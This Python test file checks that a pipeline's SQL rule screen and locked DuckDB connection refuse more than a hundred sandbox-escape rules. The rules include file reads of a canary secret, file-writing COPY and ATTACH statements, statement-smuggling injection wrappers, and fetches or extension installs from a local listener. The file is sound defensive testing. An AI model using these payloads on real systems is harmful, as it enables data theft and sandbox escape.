"""SQL that wants out: a hundred and more rules that would read, write, attach or call home, and none of them does.

Every core is proven first: in a DuckDB without walls it reads the canary, or leaves a file. Then it is tried as a rule
in many spellings at every door, and, should the screen ever let one through, against the locked DuckDB behind it.
"""

import json
import socket
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import duckdb
import pyarrow as pa
import pytest

from pipeline import Dag, SluiceError
from pipeline.judge import locked
from pipeline.rules import Rules
from pipeline.stage import Column
from pipeline.what_if import what_if
from tests.pipeline.seeing import Runs

CANARY = "canary-4f1d"
COLUMNS = [Column("status", "pool", "image", pa.string()), Column("score", "pool", "image", pa.float64())]

READS = [
    "SELECT content FROM read_text('{secret}')",
    "SELECT content::VARCHAR FROM read_blob('{secret}')",
    "SELECT word FROM read_csv('{secret}')",
    "SELECT word FROM '{secret}'",
    "SELECT word FROM read_csv_auto('{folder}/*.csv')",
    "SELECT json FROM read_json_objects('{secret}.json')",
    "SELECT word FROM read_json('{secret}.json')",
    "SELECT word FROM '{folder}/secret.parquet'",
    "SELECT word FROM parquet_scan('{folder}/secret.parquet')",
    "SELECT stats_max FROM parquet_metadata('{folder}/secret.parquet')",
    "SELECT Columns::VARCHAR FROM sniff_csv('{secret}')",
    "SELECT file FROM glob('{folder}/can*')",
    "SELECT word FROM query('SELECT word FROM ''{secret}''')",
]
READ_AS = [
    "({}) IS NOT NULL",
    "EXISTS ({})",
    "status IN ({})",
    "status = ANY ({})",
    "CASE WHEN EXISTS ({}) THEN true ELSE false END",
    "array_length(ARRAY({})) > 0",
    "true) OR EXISTS ({}) OR (true",
    "true UNION ALL ({})",
]
STATEMENTS = [
    "COPY (SELECT 1) TO '{out}.csv'",
    "COPY pairs TO '{out}.parquet' (FORMAT parquet)",
    "ATTACH '{out}.db' AS other; CREATE TABLE other.t AS SELECT 1",
    "EXPORT DATABASE '{out}.folder'",
    "CREATE TABLE t AS SELECT 1; COPY t TO '{out}.t.csv'",
]
STATEMENT_AS = [
    "{}",
    "true; {}",
    "true); {}; SELECT (true",
    "true --\n; {}",
    "status = 'x' /* */; {} --",
]
CALLS_HOME = [
    "EXISTS (FROM read_csv('http://{listener}/x.csv'))",
    "EXISTS (FROM 'https://{listener}/x.parquet')",
    "EXISTS (FROM read_parquet('s3://bucket/x.parquet', s3_endpoint = '{listener}'))",
    "true; INSTALL httpfs FROM 'http://{listener}'",
    "true; LOAD '{folder}/evil.duckdb_extension'",
    "true; SET custom_extension_repository = 'http://{listener}'",
]


@dataclass(frozen=True)
class World:
    """What there is to reach."""

    folder: Path
    listener: socket.socket

    def place(self, sql: str, out: str = "out") -> str:
        host, port = self.listener.getsockname()
        secret, target = self.folder / "secret.csv", self.folder / out
        return sql.format(secret=secret, folder=self.folder, out=target, listener=f"{host}:{port}")

    def rules(self) -> list[str]:
        reads = [wrap.format(self.place(core)) for core in READS for wrap in READ_AS]
        statements = [wrap.format(self.place(core)) for core in STATEMENTS for wrap in STATEMENT_AS]
        return reads + statements + [self.place(rule) for rule in CALLS_HOME]

    def state(self) -> dict[str, bytes]:
        return {str(path): path.read_bytes() for path in self.folder.rglob("*") if path.is_file()}


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    folder = tmp_path / "world"
    folder.mkdir()
    (folder / "secret.csv").write_text(f"word,{CANARY}\n{CANARY},1\n")
    (folder / "secret.csv.json").write_text(json.dumps({"word": CANARY}))
    (folder / CANARY).touch()
    duckdb.sql(f"COPY (SELECT '{CANARY}' AS word) TO '{folder}/secret.parquet'")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.05)
        found = World(folder, listener)
        before = found.state()
        yield found
        assert found.state() == before, "a file was written or changed"
        with pytest.raises(TimeoutError):
            listener.accept()


def pairs() -> pa.Table:
    keys = {"uid": ["a"], "caption_id": ["c"]}
    return pa.table({**keys, "pool.status": ["x"], "pool.score": [1.0], "status": ["x"], "score": [1.0]})


@pytest.mark.parametrize("core", READS)
def test_a_duckdb_without_walls_reads_the_canary(core: str, world: World) -> None:
    with duckdb.connect() as connection:
        assert CANARY in str(connection.execute(world.place(core)).fetchall())


@pytest.mark.parametrize("core", STATEMENTS)
def test_a_duckdb_without_walls_leaves_a_file(core: str, world: World, tmp_path: Path) -> None:
    with duckdb.connect() as connection:
        connection.execute("CREATE TABLE pairs AS SELECT 1 AS uid")
        connection.execute(world.place(core, out="../proof"))
    assert list(tmp_path.glob("proof*"))


def test_there_are_a_hundred_and_no_two_alike(world: World) -> None:
    rules = world.rules()
    assert len(set(rules)) == len(rules) >= 100


def test_a_rule_does_none_of_it(world: World) -> None:
    for sql in world.rules():
        with pytest.raises(SluiceError, match="rule 'r'"):
            Rules([{"r": sql}]).check(COLUMNS)


def test_a_dag_does_none_of_it(world: World) -> None:
    """The text of a DAG is refused when it is read, before any table is."""
    for sql in world.rules():
        step = {"stages.select.Select": {"rules": [{"r": sql}]}}
        text = json.dumps({"dag": "escape", "nodes": {"kept": {"from": "pool", "steps": [step]}}})
        with pytest.raises(SluiceError, match="rule 'r'"):
            Dag.parse(text)


@pytest.mark.parametrize("core", [*READS, *STATEMENTS])
def test_what_if_does_none_of_it(core: str, world: World, runs: Runs) -> None:
    wrap = READ_AS[1] if core in READS else STATEMENT_AS[1]
    with pytest.raises(SluiceError, match="rule 'r'"):
        what_if(runs.root, {"r": wrap.format(world.place(core))})


def test_the_locked_duckdb_behind_the_screen_does_none_of_it(world: World) -> None:
    """Each is pasted into a query as no rule ever is; whatever runs sees no canary and leaves nothing."""
    with locked() as connection:
        connection.register("pairs", pairs())
        refused = 0
        for sql in world.rules():
            for query in (f"SELECT ({sql}) AS verdict FROM pairs", f"SELECT {sql} FROM pairs", sql):
                try:
                    answer = connection.execute(query).fetchall()
                except duckdb.Error:
                    refused += 1
                else:
                    assert CANARY not in str(answer)
        assert refused > 2 * len(world.rules())
